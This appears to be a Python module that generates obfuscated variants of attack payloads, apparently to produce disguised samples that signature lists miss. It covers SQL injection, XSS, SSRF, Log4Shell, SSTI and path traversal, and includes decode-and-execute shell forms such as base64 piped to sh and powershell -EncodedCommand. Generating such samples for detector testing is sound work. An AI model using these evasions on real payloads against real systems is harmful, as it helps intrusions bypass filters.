"""Attacks in disguise: what an interpreter reads alike, spelt as no list spells it."""

import base64
import random
import re


def disguised(r: random.Random, category: str, text: str) -> str:
    """`text` as it is where the category has no disguises."""
    return DISGUISES[category](r, text) if category in DISGUISES else text


def sql(r: random.Random, text: str) -> str:
    for _ in range(r.randint(1, 3)):
        text = r.choice(SQL)(r, text)
    return text


def sql_space(r: random.Random, text: str) -> str:
    space = r.choice(
        [
            "/**/",
            "\t",
            "\n",
            "\x0b",
            "\x0c",
            "\xa0",
            "+",
            "/*" + letters(r) + "*/",
            "%0a",
            "--\n",
            "/*!*/",
            "  ",
            "(",
            "#\n",
        ]
    )
    return text.replace(" ", space)


def sql_keyword(r: random.Random, text: str) -> str:
    """Some keywords commented, versioned, doubled or split."""
    forms = [
        lambda w: f"/*!{w}*/",
        lambda w: f"/*!{r.randint(30000, 50999)}{w}*/",
        lambda w: w[: len(w) // 2] + w + w[len(w) // 2 :],
        lambda w: w[:2] + "/**/" + w[2:],
        lambda w: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in w),
    ]
    form = r.choice(forms)
    return SQL_WORDS.sub(lambda m: form(m[0]) if r.random() < 0.7 else m[0], text)


def sql_equals(r: random.Random, text: str) -> str:
    return re.sub(
        r"\s?(?<![<>!=:])=(?![=>])\s?",
        r.choice([" like ", " rlike ", " <=> ", " regexp ", "/**/like/**/", " in ", "=="]),
        text,
    )


def sql_words_as_signs(r: random.Random, text: str) -> str:
    return re.sub(r"\b(and|or)\b", lambda m: {"and": "&&", "or": "||"}[m[0].lower()], text, flags=re.I)


def sql_strings(r: random.Random, text: str) -> str:
    form = r.choice(
        [
            lambda s: "0x" + s.encode().hex(),
            lambda s: "char(" + ",".join(str(ord(c)) for c in s) + ")",
            lambda s: "||".join(f"chr({ord(c)})" for c in s),
            lambda s: f"concat('{s[:1]}','{s[1:]}')",
            lambda s: f"q'[{s}]'",
            lambda s: f"N'{s}'",
            lambda s: f"_utf8'{s}'",
            lambda s: f'"{s}"',
        ]
    )
    return re.sub(r"'(\w{1,12})'", lambda m: form(m[1]), text)


def sql_numbers(r: random.Random, text: str) -> str:
    form = r.choice(
        [
            lambda n: f"({n})",
            lambda n: f"{n}e0",
            lambda n: f"{n}.0",
            lambda n: f"0x{int(n):x}",
            lambda n: f"({n}-0)",
            lambda n: f"~{n}",
            lambda n: f"(select {n})",
            lambda n: f"+{n}",
        ]
    )
    return re.sub(r"(?<![\w.])\d{1,4}(?![\w.])", lambda m: form(m[0]) if r.random() < 0.6 else m[0], text)


def sql_quotes(r: random.Random, text: str) -> str:
    """Quotes of typography, which databases and drivers fold to the plain one."""
    quote = r.choice("’′ʼ＇‘")
    return text.replace("'", quote).replace('"', r.choice("”″＂"))


SQL = [sql_quotes, sql_space, sql_space, sql_keyword, sql_keyword, sql_equals, sql_words_as_signs, sql_strings, sql_numbers]
SQL_WORDS = re.compile(
    r"\b(union|select|from|where|and|or|order|by|sleep|insert|update|delete|drop|having|group|like|concat|exec)\b", re.I
)


def shell(r: random.Random, text: str) -> str:
    """Words of letters and paths spelt anew, with the separators around them left as they are."""
    kind = r.random()
    if kind < 0.12:
        return shell_encoded(r, text)
    if kind < 0.3:
        return re.sub(r"(?<=\w) (?=[\w/-])", lambda _: r.choice(SPACES), text)
    form = r.choice(WORDS)
    out = re.sub(r"[A-Za-z]{2,}", lambda m: form(r, m[0]) if r.random() < 0.6 else m[0], text)
    return (
        out.replace("/", r.choice(["${PATH:0:1}", "${HOME:0:1}", "$(echo . | tr '!-0' '\"-1')"]))
        if r.random() < 0.12
        else out
    )


def shell_encoded(r: random.Random, text: str) -> str:
    command = re.sub(r"^[\W\d]+|[\s;|&#]+$", "", text) or "id"
    b64 = base64.b64encode(command.encode()).decode()
    hexed = command.encode().hex()
    escaped = "".join(f"\\x{b:02x}" for b in command.encode())
    octal = "".join(f"\\{b:03o}" for b in command.encode())
    carets = "".join(c + ("^" if r.random() < 0.5 and c.isalpha() else "") for c in command)
    utf16 = base64.b64encode(command.encode("utf-16le")).decode()
    form = r.choice(
        [
            f"echo {b64}|base64 -d|{r.choice(['sh', 'bash', 'zsh'])}",
            f"bash<<<$(base64 -d<<<{b64})",
            f"`echo {b64} | base64 --decode`",
            f"$(echo {hexed}|xxd -r -p)",
            f"printf '{escaped}'|sh",
            f"$(printf '{octal}')",
            f"eval $'{escaped}'",
            f"$(rev<<<'{command[::-1]}')",
            f"echo '{command[::-1]}'|rev|sh",
            f"$(tr 'a-z' 'b-za'<<<{command})",
            f"cmd /c {carets}",
            f"powershell -e {utf16}",
            f"powershell -EncodedCommand {utf16}",
            f"python -c \"exec('{hexed}'.decode('hex'))\"",
            f'perl -e \'system(pack("H*","{hexed}"))\'',
            f"openssl base64 -d <<< {b64} | sh",
        ]
    )
    return r.choice(["", ";", "|", "&&", "||", "\n", "& "]) + form


SPACES = ["${IFS}", "$IFS", "$IFS$9", "${IFS%??}", "\t", "%09", "{,}", "$@ ", "\\\n", "<", "+"]
WORDS = [
    lambda r, w: between(r, w, "''"),
    lambda r, w: between(r, w, '""'),
    lambda r, w: between(r, w, "\\"),
    lambda r, w: between(r, w, "$@"),
    lambda r, w: between(r, w, "$()"),
    lambda r, w: between(r, w, "``"),
    lambda r, w: between(r, w, "${" + letters(r) + "}"),
    lambda r, w: between(r, w, "$" + r.choice("uxz!*")),
    lambda r, w: between(r, w, "^"),
    lambda r, w: "".join(f"'{c}'" for c in w),
    lambda r, w: "".join(f'"{c}"' if r.random() < 0.5 else c for c in w),
    lambda r, w: "".join("?" if i and r.random() < 0.5 else c for i, c in enumerate(w)),
    lambda r, w: w[:-1] + "*",
    lambda r, w: "".join(f"[{c}]" if r.random() < 0.4 else c for c in w),
    lambda r, w: "$'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'",
    lambda r, w: "$'" + "".join(f"\\{ord(c):03o}" for c in w) + "'",
    lambda r, w: w[:1] + "[a-z]" * (len(w) - 1),
    lambda r, w: w[:2] + "`" + w[2:],
]


def between(r: random.Random, word: str, mark: str) -> str:
    return word[0] + "".join((mark if r.random() < 0.6 else "") + c for c in word[1:])


def script(r: random.Random, text: str) -> str:
    for _ in range(r.randint(1, 2)):
        text = r.choice(SCRIPT)(r, text)
    return text


def script_names(r: random.Random, text: str) -> str:
    def spelt(m: re.Match) -> str:
        name = m[1]
        cut = r.randint(1, len(name) - 1)
        return r.choice(
            [
                lambda: "".join(f"\\u{ord(c):04x}" if r.random() < 0.5 else c for c in name) + "(",
                lambda: "".join(f"\\u{{{ord(c):x}}}" if r.random() < 0.5 else c for c in name) + "(",
                lambda: (
                    f"{r.choice(['window', 'self', 'top', 'this', 'globalThis', 'frames'])}['{name[:cut]}'+'{name[cut:]}']("
                ),
                lambda: "window['" + "".join(f"\\x{ord(c):02x}" for c in name) + "'](",
                lambda: f"top[/{name[:cut]}/.source+/{name[cut:]}/.source](",
                lambda: f"({name})(",
                lambda: f"{name}/*{letters(r)}*/(",
                lambda: f"{name}?.(",
                lambda: f"{name}.call(0,",
                lambda: f"(0,{name})(",
                lambda: f"[{name}][0](",
                lambda: "".join(f"&#{ord(c)};" for c in name) + "(",
                lambda: "".join(f"&#x{ord(c):x};" for c in name) + "&lpar;",
                lambda: f"(_={name})(",
            ]
        )()

    return re.sub(r"\b(alert|prompt|confirm|eval|print|fetch)\(", spelt, text)


def script_space(r: random.Random, text: str) -> str:
    space = r.choice(["/", "\t", "\n", "\r\n", "\x0c", "  ", "/**/", "//", "%0a", "%09", "+", "/ /"])
    return re.sub(r"(?<=<)(/?[\w-]+) ", lambda m: m[1] + space, text)


def script_case(r: random.Random, text: str) -> str:
    return re.sub(
        r"</?[a-z]+|\bon[a-z]+=|javascript|script",
        lambda m: "".join(c.upper() if r.random() < 0.5 else c for c in m[0]),
        text,
    )


def script_scheme(r: random.Random, text: str) -> str:
    gap = r.choice(["\t", "\n", "&Tab;", "&NewLine;", "&#9;", "&#x0a;", "%09", "\x00"])
    cut = r.randint(1, 9)
    return text.replace(
        "javascript:", "javascript"[:cut] + gap + "javascript"[cut:] + r.choice([":", "&colon;", "&#58;"])
    )


def script_brackets(r: random.Random, text: str) -> str:
    return re.sub(r"\b(alert|prompt|confirm|print)\((\d*)\)", r"\1`\2`", text)


SCRIPT = [script_names, script_names, script_space, script_case, script_scheme, script_brackets]


def address(r: random.Random, text: str) -> str:
    """Dotted addresses in the notations that resolvers take."""

    def spelt(m: re.Match) -> str:
        parts = [int(part) for part in m[0].split(".")]
        if max(parts) > 255:
            return m[0]
        whole = int.from_bytes(bytes(parts))
        return r.choice(
            [
                lambda: str(whole),
                lambda: hex(whole),
                lambda: f"0{whole:o}",
                lambda: ".".join(hex(p) for p in parts),
                lambda: ".".join(f"0{p:o}" for p in parts),
                lambda: ".".join(f"{p:04o}" for p in parts),
                lambda: ".".join(r.choice([str(p), hex(p), f"0{p:o}"]) for p in parts),
                lambda: f"{parts[0]}.{whole & 0xFFFFFF}",
                lambda: f"{hex(parts[0])}.{whole & 0xFFFFFF}",
                lambda: f"{parts[0]}.{parts[1]}.{whole & 0xFFFF}",
                lambda: f"[::ffff:{m[0]}]",
                lambda: f"[::ffff:{whole >> 16:x}:{whole & 0xFFFF:x}]",
                lambda: f"[0:0:0:0:0:ffff:{m[0]}]",
                lambda: ".".join(str(p + 256) for p in parts),
                lambda: str(whole + (1 << 32)),
                lambda: "。".join(str(p) for p in parts),
                lambda: m[0] + r.choice([".nip.io", ".sslip.io", ".xip.io", "."]),
            ]
        )()

    return re.sub(r"(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])", spelt, text)


def lookup(r: random.Random, text: str) -> str:
    """Letters of `${jndi:ldap:` each behind a lookup that gives it."""

    def spelt(m: re.Match) -> str:
        return (
            "${"
            + "".join(one(c) if r.random() < 0.5 else c for c in m[1])
            + ":"
            + "".join(one(c) if r.random() < 0.3 else c for c in m[2])
            + ":"
        )

    def one(c: str) -> str:
        return r.choice(
            [
                lambda: "${lower:" + c + "}",
                lambda: "${upper:" + c + "}",
                lambda: "${::-" + c + "}",
                lambda: "${env:" + letters(r).upper() + ":-" + c + "}",
                lambda: "${sys:" + letters(r) + ":-" + c + "}",
                lambda: "${" + letters(r) + ":" + letters(r) + ":-" + c + "}",
                lambda: "${lower:${upper:" + c + "}}",
                lambda: "${date:'" + c + "'}",
                lambda: "${k8s:" + letters(r) + ":-" + c + "}",
            ]
        )()

    return re.sub(r"\$\{(jndi):(\w+):", spelt, text, flags=re.I)


def template(r: random.Random, text: str) -> str:
    """Names in strings cut in two or escaped, spaces and filters in other places."""

    def spelt(m: re.Match) -> str:
        quote, word = m[1], m[2]
        cut = r.randint(1, len(word) - 1)
        return r.choice(
            [
                lambda: f"{quote}{word[:cut]}{quote}+{quote}{word[cut:]}{quote}",
                lambda: f"{quote}{word[:cut]}{quote}~{quote}{word[cut:]}{quote}",
                lambda: f"{quote}{word[:cut]}{quote}{quote}{word[cut:]}{quote}",
                lambda: quote + word.replace("_", "\\x5f") + quote,
                lambda: quote + "".join(f"\\x{ord(c):02x}" for c in word) + quote,
                lambda: quote + word[::-1] + quote + r.choice(["|reverse", "[::-1]"]),
            ]
        )()

    if r.random() < 0.5:
        text = re.sub(
            r"\.(__\w+__)",
            lambda m: r.choice([f"['{m[1]}']", f"|attr('{m[1]}')", f'|attr("{m[1]}")', f"[request.args.{letters(r)}]"]),
            text,
        )
    return re.sub(r"(['\"])([A-Za-z_]{3,})\1", lambda m: spelt(m) if r.random() < 0.6 else m[0], text)


def letters(r: random.Random) -> str:
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(r.randint(1, 5)))


SEPARATORS = """
    %2f %5c %252f %255c %25252f 0x2f 0x5c 2f 5c %%32%66 %25%32%66 %c0%af %c1%9c %c0%2f %c0%5c %e0%80%af %f8%80%80%80%af %u2215
    %u2216 %uEFC8 %ef%80%a5 %ef%bc%8f %ee%bf%88 // \\/ \\ \\\\ ;/
""".split() + ["\0."]
DOTS = ".. .. .. .. %2e%2e %252e%252e %c0%ae%c0%ae 0x2e0x2e ... .... ?? %uff0e%uff0e".split() + [".\0."]


def path(r: random.Random, text: str) -> str:
    """A climb with one other separator, down to the file, and with dots in other alphabets."""
    if ".." not in text:
        return text
    separator, dots = r.choice(SEPARATORS), r.choice(DOTS)
    return re.sub(r"[/\\]+", lambda _: separator, text).replace("..", dots)


DISGUISES = {"sqli": sql, "path-traversal": path, "rce": shell, "xss": script, "ssrf": address, "log4shell": lookup, "ssti": template}
